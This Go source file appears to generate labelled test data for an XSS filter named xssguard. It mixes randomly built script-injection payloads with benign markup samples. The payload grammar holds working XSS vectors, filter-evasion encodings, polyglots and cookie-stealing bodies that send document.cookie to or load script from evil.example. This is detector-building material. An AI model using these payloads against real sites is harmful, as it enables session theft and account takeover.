package corpus

import (
	"math/rand/v2"
	"strings"
)

// The XSS grammar: a payload is a script body carried by a vector (a
// tag with an event handler, a script tag, a script URL, a break-out,
// a template, CSS), optionally after a context closer, then mutated by
// an evasion (case, percent, double percent, entities, JS escapes,
// full-width, overlong UTF-8, NUL bytes, tab-broken schemes).

var xssBodies = []string{
	"alert(1)", "alert`1`", "alert(document.domain)", "confirm(1)", "prompt(document.cookie)",
	"alert(String.fromCharCode(88,83,83))", "eval(atob('YWxlcnQoMSk='))", "top['al'+'ert'](1)",
	"window['alert'](document.cookie)", "(alert)(1)", "import('//evil.example/x.js')",
	"fetch('//evil.example/?c='+document.cookie)", "[1].find(alert)", "setTimeout('alert(1)')",
	"self[atob('YWxlcnQ=')](1)", "Function('alert(1)')()", "print()", "alert(/XSS/.source)",
	"new Image().src='//evil.example/?'+document.cookie", "location='//evil.example/'+document.cookie",
	"confirm`XSS`", "eval(name)", "alert(this.ownerDocument.cookie)", "document.write('<img src=//evil.example>')",
}

var xssEventTags = []struct{ tag, attrs string }{
	{"img", "src=x"},
	{"img", "src=1"},
	{"image", "src=x"},
	{"svg", ""},
	{"body", ""},
	{"input", "autofocus"},
	{"select", "autofocus"},
	{"textarea", "autofocus"},
	{"details", "open"},
	{"video", "src=x"},
	{"audio", "src=x"},
	{"iframe", "src=about:blank"},
	{"marquee", ""},
	{"div", "style=\"width:100%;height:100%\""},
	{"a", "href=#"},
	{"x", ""},
	{"xss", "tabindex=1 id=x"},
	{"math", ""},
	{"style", ""},
	{"video", "poster=x"},
	{"object", "data=x"},
	{"embed", "src=x"},
	{"frameset", ""},
	{"html", ""},
	{"form", ""},
	{"button", ""},
	{"keygen", "autofocus"},
	{"meter", "value=2"},
	{"dialog", "open"},
	{"p", "id=x tabindex=0"},
	{"span", "contenteditable"},
	{"source", "src=x"},
	{"animate", "attributeName=x dur=1s"},
	{"set", "attributeName=x"},
	{"table", ""},
}

var xssEvents = []string{
	"onerror", "onload", "onfocus", "onmouseover", "onclick", "ontoggle", "onbegin",
	"onpageshow", "onanimationstart", "onpointerenter", "onauxclick", "onblur", "onmouseenter",
	"onloadstart", "onstart", "onfocusin", "onwheel", "onscroll", "oncontextmenu", "onkeydown",
	"onhashchange", "onresize", "onbeforetoggle", "onpointerover", "ontransitionend",
	"onscrollend", "oncopy", "oninput", "onchange", "ondrag", "onmessage", "onpopstate",
}

var xssSeps = []string{" ", "/", "\t", "\n", "/x/", "  ", "\r\n", "\f"}

var xssClosers = []string{
	"", "", "", "\">", "'>", "\"/>", "</textarea>", "</title>", "</style>", "-->", "</script>",
	"</noscript>", "]]>", "</iframe>", "\"></a>", "'\">", "</option></select>", "*/",
}

var xssSchemes = []string{
	"javascript:", "JavaScript:", "javascript:", "java\tscript:", "jav&#x09;ascript:",
	"&#106;avascript:", "java\nscript:", "javas&#99;ript:", " javascript:", "javascript&colon;",
	"jav&#x0A;ascript:", "\x01javascript:", "javascript://%0a", "javascript:/**/",
	"JAVASCRIPT:", "java&Tab;script:", "vbscript:",
}

var xssURLVectors = []string{
	"<a href=\"%s%s\">click</a>", "<a href=%s%s>x", "<iframe src=\"%s%s\"></iframe>",
	"<form action=\"%s%s\"><input type=submit>", "<form><button formaction=%s%s>go</button></form>",
	"<object data=\"%s%s\"></object>", "<embed src=%s%s>", "<math href=\"%s%s\">x</math>",
	"<svg><a xlink:href=\"%s%s\"><text x=1 y=1>x</text></a></svg>", "<img src=\"%s%s\">",
	"<table background=\"%s%s\">", "<base href=\"%s%s//\">", "[click](%s%s)",
	"<svg><animate attributeName=href values=%s%s /></svg>", "<isindex action=%s%s type=submit>",
	"<meta http-equiv=\"refresh\" content=\"0;url=%s%s\">", "<link rel=import href=\"%s%s\">",
	"%s%s", "<div style=\"background:url(%s%s)\">", "<input type=image src=%s%s>",
}

var xssFixed = []string{
	"<script src=//evil.example/x.js></script>", "<script src=\"https://evil.example/a.js\"></script>",
	"<SCRIPT/SRC=//evil.example/x>", "<script>%s</script>", "<script>%s", "<scr<script>ipt>%s</scr</script>ipt>",
	"<script\n>%s</script\n>", "<script type=text/javascript>%s</script>",
	"<iframe srcdoc=\"<script>%s</script>\"></iframe>", "<iframe srcdoc='&lt;img src=x onerror=%s&gt;'>",
	"<div style=\"width: expression(%s)\">", "<img style=\"xss:expr/**/ession(%s)\">",
	"<x style=\"behavior: url(//evil.example/x.htc)\">", "<style>@import 'http://evil.example/x.css';</style>",
	"<style>body{background:url(\"javascript:%s\")}</style>", "<div style=\"-moz-binding:url(//evil.example/x.xml#xss)\">",
	"<meta http-equiv=\"refresh\" content=\"0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
	"<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
	"<iframe src=\"data:text/html,<script>%s</script>\">", "<object data=\"data:text/html,<script>%s</script>\">",
	"<base href=\"//evil.example/\">", "<embed code=\"//evil.example/x.swf\" allowscriptaccess=always>",
	"<applet code=\"x.class\" codebase=\"//evil.example/\">", "<frameset><frame src=\"//evil.example/\">",
	"{{constructor.constructor('%s')()}}", "{{$on.constructor('%s')()}}", "{{[].pop.constructor('%s')()}}",
	"{{_c.constructor('%s')()}}", "{{'a'.constructor.prototype.charAt=[].join;$eval('x=%s');}}",
	"${%s}", "{{$eval.constructor('%s')()}}", "<div ng-app>{{constructor.constructor('%s')()}}</div>",
	"<div v-html=\"''.constructor.constructor('%s')()\">", "#{%s}",
}

// xssBreakouts leave an attribute value or a script string; %s is the body.
var xssBreakouts = []string{
	"\" onmouseover=\"%s", "\" onfocus=\"%s\" autofocus=\"", "' autofocus onfocus=%s x='",
	"\" autofocus onfocus=%s x=\"", "x onmouseover=%s", "\"onmouseover=%s//", "' onclick='%s'",
	"\" onpointerenter=\"%s", "';%s//", "\";%s//", "'-%s-'", "\"-%s-\"", "'}%s;{'", "\\';%s//",
	"\";%s;//", "');%s;//", "'+%s+'", "\"+%s+\"", "1;%s", "`;%s//", "\" onload=%s x=\"",
	"' style='x:expression(%s)' x='",
}

var xssPolyglots = []string{
	"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
	"'\"--></style></script><svg onload=alert(1)>",
	"\"'><img src=x onerror=alert(1)>{{7*7}}${7*7}",
	"-->'\"/></sCript><deTailS open x=\">\" ontoggle=(co\\u006efirm)``>",
	"</script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
	"<svg/onload=location=`javas`+`cript:ale`+`rt%2`+`81%2`+`9`;//",
}

// XSS returns n script-injection samples from the grammar above, the
// same for the same r state.
func XSS(r *rand.Rand, n int) []Sample {
	out := make([]Sample, 0, n)
	for range n {
		out = append(out, Sample{Value: xssMutate(r, xssOne(r)), Label: "xss"})
	}
	return out
}

func xssOne(r *rand.Rand) string {
	body := oneOf(r, xssBodies...)
	closer := oneOf(r, xssClosers...)
	switch k := r.IntN(20); {
	case k < 8:
		t := oneOf(r, xssEventTags...)
		sep := oneOf(r, xssSeps...)
		ev := oneOf(r, xssEvents...)
		val := body
		switch r.IntN(4) {
		case 0:
			val = "\"" + body + "\""
		case 1:
			val = "'" + strings.ReplaceAll(body, "'", "\"") + "'"
		}
		attrs := ""
		if t.attrs != "" {
			attrs = t.attrs + oneOf(r, xssSeps...)
		}
		eq := "="
		if r.IntN(6) == 0 {
			eq = " = "
		}
		v := "<" + t.tag + sep + attrs + ev + eq + val
		switch r.IntN(4) {
		case 0:
		case 1:
			v += ">"
		case 2:
			v += "//"
		default:
			v += "></" + t.tag + ">"
		}
		return closer + v
	case k < 11:
		scheme := oneOf(r, xssSchemes...)
		b := body
		if strings.HasPrefix(scheme, "vbscript") {
			b = "msgbox(\"XSS\")"
		}
		return closer + strings.Replace(strings.Replace(oneOf(r, xssURLVectors...), "%s", scheme, 1), "%s", b, 1)
	case k < 15:
		return closer + strings.ReplaceAll(oneOf(r, xssFixed...), "%s", body)
	case k < 19:
		return strings.ReplaceAll(oneOf(r, xssBreakouts...), "%s", body)
	default:
		return oneOf(r, xssPolyglots...)
	}
}

// xssMutate applies one evasion, or none, to v.
func xssMutate(r *rand.Rand, v string) string {
	switch r.IntN(14) {
	case 0:
		return randomCase(r, v)
	case 1:
		return percentSome(v, "<>\"' =()/", r.IntN(2) == 0)
	case 2:
		return percentAll(v)
	case 3:
		return percentSome(percentSome(v, "<>\"'", false), "%", r.IntN(2) == 0) // double
	case 4:
		return entityEncode(r, v, "<>\"'")
	case 5:
		return named(v)
	case 6:
		return jsEscape(r, v, "<>\"'")
	case 7:
		return fullWidth(v, "<>")
	case 8:
		return overlong(v, "<>")
	case 9:
		// A NUL byte inside a tag name or scheme, raw or encoded.
		nul := oneOf(r, []string{"\x00", "%00"}...)
		for _, w := range []string{"script", "javascript", "onerror", "onload"} {
			if k := strings.Index(v, w); k >= 0 {
				return v[:k+2] + nul + v[k+2:]
			}
		}
		return v
	case 10:
		return randomCase(r, percentSome(v, "<>", true))
	default:
		return v
	}
}

// Benign markup: the hard benign cases of xssguard's domain.

var benignWords = []string{
	"report", "meeting", "the team", "budget", "release", "customer", "invoice", "Alice", "Bob",
	"the script", "the onload event", "a handler", "JavaScript", "the iframe", "the form", "our API",
	"coffee", "the garden", "tomorrow", "Berlin", "version 2", "the alert", "an expression",
}

var benignTemplates = []string{
	"%w < %w and %w > %w", "I <3 %w", "<3 %w", "%w -> %w", "a->b then %w", "x < y", "%w <= %w",
	"<b>%w</b>", "<i>%w</i> is due", "<p>%w</p>", "<strong>%w</strong> and <em>%w</em>",
	"line one<br>line two", "<br/>%w", "<ul><li>%w</li><li>%w</li></ul>", "<code>%w()</code>",
	"<a href=\"https://example.com/%p\">%w</a>", "<a href=\"/%p\" title=\"%w\">link</a>",
	"<img src=\"/img/%p.png\" alt=\"%w\">", "<span class=\"tag\">%w</span>", "<p style=\"color: red\">%w</p>",
	"%n <%e>", "\"%n\" <%e>", "Contact: <%e>", "**%w** and _%w_", "# %w", "[%w](https://example.com/%p)",
	"![%w](/images/%p.png)", "> %w", "`%w`", "Call the onClick handler for %w", "the onload event of %w",
	"set img.onerror to a fallback for %w", "Use onmouseover sparingly in %w", "https://example.com/javascript/%p",
	"https://developer.mozilla.org/en-US/docs/Web/JavaScript/%p", "JavaScript: %w", "{\"name\":\"%n\",\"onload\":true}",
	"{\"html\":\"%w\",\"count\":3}", "f(x) = 2x + 1", "(a + b) * c = %d", "%d < %d", "%d%% of %w",
	"%n's password: %s", "%s", "O'%n & Sons", "%w & %w", "List<%W>", "Map<String, %W>", "Hello {{ %v }}",
	"{{%v}} items", "${%v}", "Price: %d <incl. VAT>", "<!-- %w -->", "see <%p> later", "<%W>",
	"the <script> tag is %w", "expression (%w) evaluated", "data: %d, %d, %d", "Re: <title> tags",
	"%w: alert the team about %w", "%w; then %w", "\"%w\"; '%w'", "javascript %w tutorial",
	"background: url(\"/img/%p.png\")", "color:red;margin:0", "1 < 2 > 0", "<<%w>>", "=> %w",
	"mailto:%e?subject=%w", "https://example.com/?q=%w&page=%d", "%w %% %w", "&lt;b&gt; is bold",
	"Tom &amp; Jerry", "&copy; %d %n", "C:\\Users\\%n\\%p.txt", "<T extends %W>", "%w (%w)",
}

var benignNames = []string{"Alice", "Bob", "Carol O'Neil", "José", "Zoë", "Li Wei", "Müller", "D'Arcy", "Ng", "Smith-Jones"}

var benignPasswords = []string{
	"P@ssw0rd!<>", "Tr0ub4dor&3", "hunter2", "aB3$xY9!qR#2", "s3cr3t=42", "p<a>ss", "x'y\"z", "(pass)word!",
	"correct horse battery staple", "1q2w3e4r", "!@#$%^&*()", "qwerty<3", "[]{}();:", "on=off", "a&b=c",
}

// BenignMarkup returns n benign values that look like markup, code,
// prose with angle brackets, e-mail addresses, markdown, JSON and
// passwords: the values xssguard must let through.
func BenignMarkup(r *rand.Rand, n int) []Sample {
	out := make([]Sample, 0, n)
	for range n {
		v := expand(oneOf(r, benignTemplates...), func(verb byte) (string, bool) {
			switch verb {
			case 'w':
				return oneOf(r, benignWords...), true
			case 'W':
				return oneOf(r, "String", "Integer", "User", "T", "Node"), true
			case 'n':
				return oneOf(r, benignNames...), true
			case 'e':
				return oneOf(r, "alice@example.org", "bob.smith@x.org", "support@magflock.dev", "a+b@mail.co"), true
			case 'p':
				return oneOf(r, "docs", "guide/intro", "team", "photo-1", "a/b", "reports/2024"), true
			case 'd':
				return oneOf(r, "1", "3", "42", "100", "2024", "7"), true
			case 's':
				return oneOf(r, benignPasswords...), true
			case 'v':
				return oneOf(r, "name", "user.name", " count ", "item.price | currency", "title"), true
			}
			return "", false
		})
		out = append(out, Sample{Value: v, Label: "benign"})
	}
	return out
}
